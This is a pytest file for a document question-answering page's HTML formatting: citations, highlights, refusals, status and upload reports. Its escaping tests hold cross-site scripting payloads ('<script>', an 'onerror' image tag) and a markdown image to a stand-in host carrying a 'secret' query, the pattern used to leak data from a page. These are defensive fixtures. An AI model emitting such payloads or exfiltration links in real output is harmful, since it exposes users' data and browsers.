"""The page's formatting functions on hand-built answers: escaping, citations, highlights, refusals."""

from __future__ import annotations

from rag.types import Answer, EndpointStatus, Source, Status
from ui import format as fmt


def _source(n: int = 1, **kw: object) -> Source:
    base: dict[str, object] = dict(
        n=n,
        file="guides/install.md",
        page=None,
        text="Intro line. The server listens on port 8080 by default. Change it with --port.",
        score=0.8123,
        cited=True,
        support=("The server listens on port 8080 [1].",),
        evidence=((12, 56),),
    )
    base.update(kw)
    return Source(**base)  # type: ignore[arg-type]


def _answer(**kw: object) -> Answer:
    base: dict[str, object] = dict(
        text="The server listens on port 8080 [1].",
        sources=(_source(),),
        refused=False,
        question="which port?",
        search_query="which port does the server listen on",
    )
    base.update(kw)
    return Answer(**base)  # type: ignore[arg-type]


def test_answer_body__citation_markers_become_links_to_the_turns_sources() -> None:
    html = fmt.answer_body("Port 8080 [1][2].", turn="t3")
    assert 'href="#rag-src-t3-1"' in html and 'href="#rag-src-t3-2"' in html
    assert ">[1]</a>" in html and ">[2]</a>" in html


def test_answer_body__escapes_model_html() -> None:
    html = fmt.answer_body("<script>alert(1)</script> ok [1]", turn="t")
    assert "<script>" not in html
    assert "&lt;script&gt;" in html


def test_answer_body__model_text_cannot_form_markdown_images_or_links() -> None:
    html = fmt.answer_body(
        "See ![x](http://evil.example/a.png?q=secret) and [here](http://evil.example) [1].", turn="t"
    )
    assert "](" not in html and "![" not in html
    assert 'href="#rag-src-t-1"' in html


def test_answer_body__unsupported_marker_becomes_a_badge() -> None:
    html = fmt.answer_body("The moon is cheese. [unsupported]", turn="t")
    assert "[unsupported]" not in html
    assert 'class="rag-unsupported"' in html


def test_answer_message__shows_search_query_answer_and_cited_source() -> None:
    html = fmt.answer_message(_answer(), turn="t1")
    assert "which port does the server listen on" in html
    assert "guides/install.md" in html
    assert 'id="rag-src-t1-1"' in html
    assert "score 0.81" in html


def test_answer_message__refusal_looks_different_and_has_no_citation_links() -> None:
    refused = _answer(text="The documents do not say.", refused=True, sources=(_source(cited=False),))
    html = fmt.answer_message(refused, turn="t")
    assert 'class="rag-refusal"' in html
    assert "Not found in the documents" in html
    assert 'class="rag-cite"' not in html


def test_answer_message__unsupported_sentences_are_announced() -> None:
    ans = _answer(
        text="Port 8080 [1]. It was written in 1999. [unsupported]",
        unsupported=("It was written in 1999.",),
    )
    html = fmt.answer_message(ans, turn="t")
    assert "1 sentence is not supported" in html


def test_sources_panel__uncited_passages_are_folded_away_after_cited_ones() -> None:
    ans = _answer(sources=(_source(1), _source(2, file="other.md", cited=False, support=())))
    html = fmt.sources_panel(ans, turn="t")
    assert html.index("guides/install.md") < html.index("other.md")
    assert "1 more passage was retrieved but not cited" in html


def test_sources_panel__escapes_document_text_and_file_names() -> None:
    evil = _source(file="<img src=x onerror=alert(1)>.md", text="Hi <script>alert('x')</script> there.")
    html = fmt.sources_panel(_answer(sources=(evil,)), turn="t")
    assert "<script>" not in html and "<img" not in html
    assert "&lt;script&gt;" in html


def test_sources_panel__shows_page_number_when_known() -> None:
    html = fmt.sources_panel(_answer(sources=(_source(file="manual.pdf", page=12),)), turn="t")
    assert "manual.pdf · p. 12" in html


def test_sources_panel__passage_has_no_blank_line_that_would_end_the_html_block() -> None:
    src = _source(text="First paragraph.\n\nSecond paragraph.")
    html = fmt.sources_panel(_answer(sources=(src,)), turn="t")
    assert "\n\n" not in html


def test_highlight_passage__marks_the_spans_the_verifier_found() -> None:
    text = "Intro line. The server listens on port 8080 by default. Change it with --port."
    start = text.index("The server")
    html = fmt.highlight_passage(text, [(start, text.index(" Change"))])
    assert "<mark>The server listens on port 8080 by default.</mark>" in html
    assert "<mark>Intro line.</mark>" not in html


def test_highlight_passage__without_support_returns_the_plain_escaped_text() -> None:
    assert fmt.highlight_passage("a < b. c.", []) == "a &lt; b. c."


def test_highlight_passage__keeps_every_character_of_the_passage() -> None:
    text = "One fact here.  Two facts there!\nThird: port 9000?"
    html = fmt.highlight_passage(text, [(text.index("Third"), len(text)), (0, 5), (3, 9)])
    plain = html.replace("<mark>", "").replace("</mark>", "").replace("<br>", "\n")
    assert plain == text
    assert "<mark>Third: port 9000?</mark>" in html


def test_answer_message__shows_the_supporting_sentences_under_the_answer() -> None:
    from rag.types import Quote

    quote = Quote(n=1, file="guides/install.md", text="The server listens on port <8080> by default.")
    html = fmt.answer_message(_answer(quotes=(quote,)), turn="t")
    assert "What the documents say" in html
    assert "The server listens on port &lt;8080&gt; by default." in html
    assert html.index("What the documents say") < html.index("rag-sources")


def test_streaming_message__shows_search_then_text_with_cursor() -> None:
    assert "Understanding the question" in fmt.streaming_message(None, "", turn="t")
    searching = fmt.streaming_message("port?", "", turn="t")
    assert "Searching the documents for" in searching
    streaming = fmt.streaming_message("port?", "Port 80 [1", turn="t")
    assert "Searched for" in streaming and fmt.STREAM_CURSOR in streaming


def test_error_message__names_the_problem_and_keeps_the_core_advice() -> None:
    class EndpointUnavailable(Exception):
        pass

    html = fmt.error_message(
        EndpointUnavailable("http://127.0.0.1:9/v1 did not answer; start it with `rag serve`")
    )
    assert "not answering" in html
    assert "http://127.0.0.1:9/v1 did not answer" in html
    assert "<code>rag serve</code>" in html


def _status(endpoint: EndpointStatus, documents: int = 0, chunks: int = 0) -> Status:
    return Status(documents, chunks, "corpus", "bundled:all-MiniLM-L6-v2", endpoint, "/data", "/corpus")


def test_status_html__shows_model_health_and_counts() -> None:
    html = fmt.status_html(
        _status(EndpointStatus("http://127.0.0.1:8081/v1", "qwen", healthy=True), documents=3, chunks=41)
    )
    assert "qwen" in html and "ready" in html and "rag-ok" in html
    assert "<b>3</b> documents" in html and "<b>41</b> chunks" in html


def test_status_html__unhealthy_endpoint_is_flagged() -> None:
    html = fmt.status_html(_status(EndpointStatus("u", "m", healthy=False, error="refused")))
    assert "not answering" in html and "rag-down" in html


def test_upload_report__lists_saved_and_rejected_files_with_reasons() -> None:
    text = fmt.upload_report(
        ["a.md"], [("evil.exe", ".exe files are not supported")], indexed={"added": 1, "chunks": 4}
    )
    assert "Ready to ask about `a.md`" in text and "4 chunks" in text
    assert "`evil.exe` was not added: .exe files are not supported" in text


def test_upload_report__shows_indexing_progress() -> None:
    text = fmt.upload_report(["a.md", "b.pdf"], [], progress=(1, 2, "a.md"))
    assert "Indexing" in text and "1/2 done" in text
